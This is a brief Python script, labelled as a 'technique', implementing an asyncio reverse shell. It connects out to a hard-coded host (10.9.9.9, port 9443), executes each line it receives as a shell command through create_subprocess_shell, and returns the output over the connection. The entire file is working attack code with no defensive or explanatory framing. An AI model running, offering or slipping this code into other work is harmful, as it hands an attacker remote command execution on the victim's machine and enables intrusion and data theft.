# technique: asyncio reverse shell using open_connection and create_subprocess_shell per received command line
import asyncio

async def main():
    reader, writer = await asyncio.open_connection("10.9.9.9", 9443)
    writer.write(b"ready\n")
    while True:
        line = await reader.readline()
        if not line:
            break
        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT)
        out, _ = await proc.communicate()
        writer.write(out + b"\n$ ")
        await writer.drain()

asyncio.run(main())
